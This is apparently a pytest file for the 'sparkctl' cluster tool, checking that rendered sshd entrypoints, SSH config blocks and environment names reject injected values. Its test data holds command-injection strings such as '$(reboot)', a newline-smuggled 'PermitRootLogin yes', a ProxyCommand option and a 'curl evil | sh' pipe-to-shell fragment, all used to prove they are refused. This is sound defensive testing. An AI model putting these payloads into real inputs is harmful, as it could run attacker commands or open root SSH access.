"""Defence in depth behind the inventory's grammar: the container's own variables cannot be overridden, the
entrypoint never starts an sshd that listens everywhere, and the templates refuse to render a value that could not
come from a valid inventory (validation bypassed by building the objects directly)."""

from __future__ import annotations

import re
import subprocess

import pytest

from sparkctl.plan import plan_cluster
from sparkctl.plan.container import SSHD_LISTEN_ENV, container_env, render_entrypoint
from sparkctl.plan.fabric import plan_fabric
from sparkctl.plan.render import UnsafeValue, one_line, option, word
from sparkctl.plan.ssh import ssh_config_block
from tests.taskkit import inventory

INJECTIONS = ["a\nPermitRootLogin yes", 'a"b', "$(reboot)", "`id`", "a b", "a;b", "-oProxyCommand=x", "a#b", ""]


def bypassed(inv, section: str, **values):
    """The inventory with a section's values set without any validation."""
    part = getattr(inv, section)
    return inv.model_copy(update={section: part.model_copy(update=values)})


def test_an_inventory_env_key_cannot_override_where_the_container_sshd_listens():
    inv = bypassed(inventory(), "container", env={SSHD_LISTEN_ENV: ""})
    env = container_env(inv, "spark1", plan_fabric(inv, {}))
    assert env[SSHD_LISTEN_ENV] and all(re.fullmatch(r"[0-9.]+", a) for a in env[SSHD_LISTEN_ENV].split())


def _listen_part(script: str) -> str:
    """The entrypoint's lines that turn SPARKCTL_SSHD_LISTEN into ListenAddress lines."""
    start = script.index("listen=\"\"")
    return "set -euo pipefail\n" + script[start:script.index("cat > /etc/ssh/sshd_config.sparkctl")] + \
        'printf "%s" "$listen"\n'


@pytest.mark.parametrize("listen", ["", "   "])
def test_the_entrypoint_refuses_to_start_sshd_without_a_listen_address(listen):
    part = _listen_part(render_entrypoint(inventory()))
    result = subprocess.run(["bash", "-c", part], env={SSHD_LISTEN_ENV: listen, "PATH": "/usr/bin:/bin"},
                            capture_output=True, text=True, check=False)
    assert result.returncode == 1 and "sshd is not started" in result.stderr
    ok = subprocess.run(["bash", "-c", part], env={SSHD_LISTEN_ENV: "192.168.100.10 192.168.101.10",
                                                    "PATH": "/usr/bin:/bin"}, capture_output=True, text=True,
                        check=False)
    assert ok.returncode == 0 and ok.stdout.split("\n")[1:] == ["ListenAddress 192.168.100.10",
                                                                "ListenAddress 192.168.101.10"]


@pytest.mark.parametrize("value", INJECTIONS)
def test_the_word_guard_refuses_what_could_change_a_rendered_line(value):
    with pytest.raises(UnsafeValue) as err:
        word(value)
    assert value not in str(err.value) or not value


@pytest.mark.parametrize("value", ["spark1", "192.168.100.10/24", "fd00::1", "/home/nvidia/.ssh/x", "9000",
                                   "enP2p1s0f1np1", "nvcr.io/nvidia/x:1.0"])
def test_the_word_guard_passes_plain_values(value):
    assert word(value) == value


@pytest.mark.parametrize("section, field, value", [
    ("cluster", "name", "x\nPermitRootLogin yes"), ("container", "name", "x\rexec evil"),
    ("cluster", "name", "x\u2028y"), ("container", "ssh_port", "22\nPermitRootLogin yes"),
    ("container", "ssh_port", "2233 $(reboot)")])
def test_the_entrypoint_refuses_values_validation_would_have_refused(section, field, value):
    inv = bypassed(inventory(), section, **{field: value})
    with pytest.raises(UnsafeValue):
        render_entrypoint(inv)


def test_an_env_name_that_bypassed_validation_is_not_rendered_into_the_entrypoint():
    inv = bypassed(inventory(), "container", env={"X; curl evil | sh; Y": "1"})
    with pytest.raises(UnsafeValue):
        render_entrypoint(inv)


def test_the_ssh_config_and_plan_refuse_a_user_or_host_that_bypassed_validation():
    inv = inventory()
    bad_user = inv.model_copy(update={"user": "root\n    ProxyCommand touch /tmp/x"})
    with pytest.raises(UnsafeValue):
        ssh_config_block(bad_user, ["192.168.100.11"], "/home/nvidia")
    with pytest.raises(UnsafeValue):
        ssh_config_block(inv, ["192.168.100.11 *"], "/home/nvidia")
    bad_mtu = bypassed(inv, "fabric", mtu="9000\n  evil: 1")
    with pytest.raises(UnsafeValue):
        plan_cluster(bad_mtu)


def test_a_comment_only_refuses_what_would_end_it():
    """In a `#` comment only a line break (as bash, sshd or libyaml read one) could start a line of its own."""
    assert one_line("pair x'; touch pwned; '$(touch pwned)") == "pair x'; touch pwned; '$(touch pwned)"
    for value in ("a\nb", "a\rb", "a\x00b", "a\x85b", "a\u2028b", "a\u2029b"):
        with pytest.raises(UnsafeValue):
            one_line(value)


@pytest.mark.parametrize("value", ["-p", "22", "BatchMode=yes", "~/.ssh/sparkctl-c", "IdentitiesOnly=yes"])
def test_an_option_sparkctl_builds_renders_as_it_is(value):
    assert option(value) == value


@pytest.mark.parametrize("value", ["a b", "$(id)", "x;id", "`id`", "'x'", "a\nb", ""])
def test_an_option_that_is_not_a_plain_word_is_refused(value):
    with pytest.raises(UnsafeValue):
        option(value)
